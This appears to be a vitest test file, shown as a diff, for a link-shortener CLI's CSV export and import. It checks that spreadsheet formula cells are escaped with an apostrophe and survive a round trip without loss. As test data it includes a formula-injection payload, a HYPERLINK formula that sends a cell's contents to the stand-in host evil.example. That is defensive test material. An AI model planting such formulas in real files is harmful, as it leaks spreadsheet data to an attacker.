@@ -1,0 +1,79 @@
+import { readFileSync, statSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { parseCsv, toCsvLine, withFormula, withoutFormula } from '../../../hosts/cli/csv.ts'
+import { operator } from './shortlink.ts'
+
+describe('a cell that a spreadsheet would run', () => {
+  it.each(['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', "'=1", "''-2"])(
+    'begins with an apostrophe: %j',
+    (cell) => {
+      expect(withoutFormula(cell)).toBe(`'${cell}`)
+      expect(withFormula(`'${cell}`)).toBe(cell)
+    },
+  )
+
+  it.each(['', 'a=1', 'https://example.com/', "'tis", "'", '2026-01-01'])('is not %j', (cell) => {
+    expect(withoutFormula(cell)).toBe(cell)
+    expect(withFormula(cell)).toBe(cell)
+  })
+
+  it('comes back as it was, whatever it is', () => {
+    const cell = fc.oneof(
+      fc.string(),
+      fc.string({ unit: fc.constantFrom("'", '=', '-', '+', '@', '\t', '\r', '\n', ',', '"', 'a') }),
+    )
+    fc.assert(
+      fc.property(fc.array(cell, { minLength: 2, maxLength: 4 }), (cells) => {
+        const [read = []] = parseCsv(toCsvLine(cells.map(withoutFormula)))
+        expect(read.map(withFormula)).toEqual(cells)
+        for (const cell of read) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+      }),
+    )
+  })
+})
+
+it('an export opened in a spreadsheet runs nothing, is imported without loss, and what is wrong with rows is for their owner alone', async () => {
+  const title = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+  const links = [
+    { slug: '-2', target: 'https://example.com/2', title },
+    { slug: 'plain', target: 'https://example.com/1', title: "'=kept" },
+  ]
+  const ADA = ['--user', 'ada@example.com']
+  const source = await operator()
+  const given = join(source.folder, 'given.json')
+  writeFileSync(given, JSON.stringify(links))
+  await source.run('link', 'import', given, ...ADA, '--apply')
+
+  const [csv, raw] = [join(source.folder, 'links.csv'), join(source.folder, 'raw.csv')]
+  await source.run('link', 'export', csv, ...ADA)
+  await source.run('link', 'export', raw, ...ADA, '--raw')
+  const rows = (file: string) => parseCsv(readFileSync(file, 'utf8')).slice(1)
+  const shown = rows(csv).map(([slug, , title]) => [slug, title])
+  expect(shown.sort()).toEqual([
+    ["'-2", `'${title}`],
+    ['plain', "''=kept"],
+  ])
+  expect(
+    rows(raw)
+      .map(([slug, , title]) => [slug, title])
+      .sort(),
+  ).toEqual([
+    ['-2', title],
+    ['plain', "'=kept"],
+  ])
+
+  for (const [file, ...how] of [[csv], [raw, '--raw']] as [string, ...string[]][]) {
+    const copy = await operator()
+    await copy.run('link', 'import', file, ...ADA, ...how, '--apply')
+    const { stdout } = await copy.run('link', 'list', ...ADA, '--json')
+    const came = (JSON.parse(stdout).items as typeof links).map(({ slug, target, title }) => ({ slug, target, title }))
+    expect(came.sort((a, b) => (a.slug < b.slug ? -1 : 1))).toEqual(links)
+  }
+
+  writeFileSync(given, JSON.stringify([{ slug: '=cmd()', target: '@SUM(1)' }]))
+  await source.run('link', 'import', given, ...ADA)
+  expect(rows(`${given}.errors.csv`)[0]?.slice(0, 3)).toEqual(['1', "'=cmd()", "'@SUM(1)"])
+  expect(statSync(`${given}.errors.csv`).mode & 0o777).toBe(0o600)
+})
